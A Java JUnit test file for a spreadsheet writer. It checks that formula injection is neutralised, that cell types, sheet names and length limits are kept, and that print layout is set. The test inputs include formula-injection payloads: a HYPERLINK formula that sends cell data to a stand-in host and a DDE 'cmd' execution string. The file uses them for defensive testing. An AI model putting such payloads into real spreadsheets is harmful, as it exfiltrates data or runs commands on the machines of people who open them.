package org.concordat.shared.application;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/** The workbook writer: every OWASP trigger neutralised in a string cell, numbers and booleans kept, limits kept. */
class SpreadsheetWorkbookTest {

    private static XSSFWorkbook written(List<List<?>> rows) throws IOException {
        byte[] xlsx = SpreadsheetCells.xlsx(new SpreadsheetCells.Properties("T", "S", "O", "D", Instant.EPOCH),
                List.of(new SpreadsheetCells.Sheet("Sheet: one/two [draft]?", List.of("=A", "B"), rows, List.of(10))));
        return new XSSFWorkbook(new ByteArrayInputStream(xlsx));
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"})
    void aFormulaIsTextWithAQuoteInFront(String formula) throws IOException {
        try (XSSFWorkbook workbook = written(List.of(List.of(formula, "plain")))) {
            Cell cell = workbook.getSheetAt(0).getRow(1).getCell(0);
            assertEquals(CellType.STRING, cell.getCellType());
            assertEquals("'" + formula, cell.getStringCellValue());
            assertTrue(cell.getCellStyle().getQuotePrefixed());
            Cell plain = workbook.getSheetAt(0).getRow(1).getCell(1);
            assertFalse(plain.getCellStyle().getQuotePrefixed(), "plain text is left as it is");
            assertEquals("'=A", workbook.getSheetAt(0).getRow(0).getCell(0).getStringCellValue(), "headings too");
        }
    }

    @Test
    void numbersAndBooleansStayWhatTheyAreAndNothingIsEmpty() throws IOException {
        try (XSSFWorkbook workbook = written(List.of(Arrays.asList(-3, true), Arrays.asList(new BigDecimal("2.5"), null)))) {
            Row first = workbook.getSheetAt(0).getRow(1);
            assertEquals(-3.0, first.getCell(0).getNumericCellValue());
            assertTrue(first.getCell(1).getBooleanCellValue());
            Row second = workbook.getSheetAt(0).getRow(2);
            assertEquals(2.5, second.getCell(0).getNumericCellValue());
            assertEquals(CellType.BLANK, second.getCell(1).getCellType());
        }
    }

    @Test
    void aSheetNameIsMadeSafeAndAnOverlongTextIsCut() throws IOException {
        try (XSSFWorkbook workbook = written(List.of(List.of("x".repeat(40_000), "y")))) {
            String name = workbook.getSheetName(0);
            assertTrue(name.length() <= 31 && !name.matches(".*[\\[\\]:*?/\\\\].*"), name);
            String cut = workbook.getSheetAt(0).getRow(1).getCell(0).getStringCellValue();
            assertEquals(SpreadsheetCells.MOST_CHARACTERS_IN_A_CELL, cut.length());
            assertTrue(cut.endsWith("\u2026"));
            assertEquals(10 * 256, workbook.getSheetAt(0).getColumnWidth(0));
            assertEquals(15 * 256, workbook.getSheetAt(0).getColumnWidth(1), "a width not given is 15");
        }
    }

    @Test
    void aRowIsTallEnoughForItsWrappedTextAndEverySheetPrintsLandscapeWithItsHeader() throws IOException {
        try (XSSFWorkbook workbook = written(List.of(List.of("A sentence long enough to wrap onto several lines", "short"),
                List.of("one line", "two")))) {
            var sheet = workbook.getSheetAt(0);
            assertTrue(sheet.getRow(1).getHeightInPoints() >= 4 * 15f, "five lines at ten characters: "
                    + sheet.getRow(1).getHeightInPoints());
            assertEquals(sheet.getDefaultRowHeightInPoints(), sheet.getRow(2).getHeightInPoints(), "one line keeps the default");
            assertTrue(sheet.getPrintSetup().getLandscape());
            assertEquals(org.apache.poi.ss.usermodel.PrintSetup.A4_PAPERSIZE, sheet.getPrintSetup().getPaperSize());
            assertEquals(1, sheet.getPrintSetup().getFitWidth(), "25 characters wide: one page across");
            assertEquals("1:1", sheet.getRepeatingRows().formatAsString().replace("$", ""), "the header on every page");
        }
    }
}
